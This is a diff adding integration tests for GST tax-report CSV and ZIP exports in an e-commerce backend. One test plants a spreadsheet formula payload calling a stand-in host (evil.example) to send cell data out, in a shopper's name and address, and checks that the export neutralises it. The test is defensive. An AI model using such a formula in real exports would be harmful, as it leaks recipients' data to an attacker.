@@ -3,6 +3,7 @@ import fs from "fs"
 import os from "os"
 import path from "path"
 import { parse } from "csv-parse/sync"
+import { strFromU8, unzipSync } from "fflate"
 import { integrationTestRunner } from "../helpers/runner"
 import type { SeedResult } from "../../src/scripts/seed"
 import { INVOICE_MODULE } from "../../src/modules/invoice"
@@ -262,7 +263,90 @@ integrationTestRunner({
       })
       expect((await api.get(`/api/admin/reports/gst?month=${month}`, as(shopper))).status).toBe(403)
       const empty = await api.get(`/api/admin/reports/gst?month=2020-01`, as(admin))
-      expect(parse(empty.data).at(-1)).toEqual(["total", "", "", "", "", "", "", "", "0.00", "0.00", "0.00", "0.00", "0.00"])
+      expect(parse(empty.data).at(-1)).toEqual(["total", "", "", "", "", "", "", "", "0.00", "0.00", "0.00", "0.00", "0.00", "", ""])
+    })
+
+    it("answers each GSTR-1 table in the offline tool's shape, adding up to the month's summary, and all of them as a ZIP", async () => {
+      const interState = await order(shopper, ["P1", "S1"]) // Maharashtra
+      const intraState = await order(shopper, ["P1"], { shippingAddress: UP_ADDRESS })
+      for (const o of [interState, intraState]) expect((await confirm(o.id)).status).toBe(200)
+      const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
+      const table = async (name: string) => {
+        const res = await api.get(`/api/admin/reports/gst?month=${month}&table=${name}`, as(admin))
+        expect([res.status, res.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8"])
+        return parse(res.data) as string[][]
+      }
+      const cents = (v: string) => Math.round(Number(v) * 100)
+      const summaryTotal = (await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))).data as string
+      const total = (parse(summaryTotal) as string[][]).find((r) => r[0] === "total")!
+
+      const b2cs = await table("b2cs")
+      expect(b2cs[0]).toEqual([
+        "Type",
+        "Place Of Supply",
+        "Applicable % of Tax Rate",
+        "Rate",
+        "Taxable Value",
+        "Cess Amount",
+        "E-Commerce GSTIN",
+      ])
+      expect(b2cs.slice(1).map((r) => `${r[0]}|${r[1]}|${r[3]}`)).toEqual([
+        "OE|09-Uttar Pradesh|18",
+        "OE|27-Maharashtra|5",
+        "OE|27-Maharashtra|18",
+      ])
+      expect(b2cs.slice(1).reduce((s, r) => s + cents(r[4]), 0)).toBe(cents(total[8]))
+      const hsn = await table("hsn_b2c")
+      expect(hsn.slice(1).reduce((s, r) => s + cents(r[6]), 0)).toBe(cents(total[8]))
+      expect(hsn.slice(1).reduce((s, r) => s + cents(r[4]), 0)).toBe(cents(total[12]))
+      expect((await table("b2b")).length).toBe(1) // no registered buyer: the header only
+      const docs = await table("docs")
+      expect(docs.slice(1).map((r) => [r[0], r[3], r[4]])).toEqual([["Invoices for outward supply", "2", "0"]])
+
+      const zip = await api.get(`/api/admin/reports/gst?month=${month}&table=all`, { ...as(admin), responseType: "arraybuffer" })
+      expect([zip.status, zip.headers["content-type"]]).toEqual([200, "application/zip"])
+      const files = unzipSync(new Uint8Array(zip.data))
+      expect(Object.keys(files).sort()).toEqual([
+        "b2b.csv",
+        "b2cl.csv",
+        "b2cs.csv",
+        "cdnr.csv",
+        "cdnur.csv",
+        "docs.csv",
+        "hsn_b2b.csv",
+        "hsn_b2c.csv",
+      ])
+      expect(parse(strFromU8(files["b2cs.csv"]))).toEqual(b2cs)
+
+      const empty = await api.get(`/api/admin/reports/gst?month=2020-01&table=b2cs`, as(admin))
+      expect(parse(empty.data)).toEqual([b2cs[0]])
+      const bad = await api.get(`/api/admin/reports/gst?month=${month}&table=gstr3b`, as(admin))
+      expect(bad.status).toBe(400)
+      expect(bad.data.errors).toEqual([
+        { msg: "table must be one of b2b, b2cl, b2cs, cdnr, cdnur, hsn_b2b, hsn_b2c, docs or all", path: "table" },
+      ])
+      expect((await api.get(`/api/admin/reports/gst?month=${month}&table=b2cs`, as(shopper))).status).toBe(403)
+    })
+
+    it("neutralises a shopper's name and address that a spreadsheet would run as a formula", async () => {
+      const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+      const address = { ...ADDRESS, name: `${hostile} Verma`, street: `${hostile} Road` }
+      const placed = await order(shopper, ["S1"], { shippingAddress: address })
+      expect((await confirm(placed.id)).status).toBe(200)
+      const [issued] = await getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE).listTaxDocuments({ order_id: placed.id })
+
+      const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
+      const res = await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))
+      expect(res.status).toBe(200)
+      const header = (parse(res.data) as string[][])[0]
+      const row = (parse(res.data) as string[][]).find((r) => r[2] === issued.number)!
+      const cell = (column: string) => row[header.indexOf(column)]
+      // Read back as text: a leading apostrophe, the shopper's text kept whole after it.
+      expect(cell("recipient_name")).toBe(`'${hostile} Verma`)
+      expect(cell("recipient_address")).toBe(`'${hostile} Road, Pune, Maharashtra, 411001`)
+      // No cell anywhere in the file starts a formula.
+      for (const r of parse(res.data) as string[][])
+        for (const c of r) expect(/^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c)).toBe(false)
     })
   },
 })
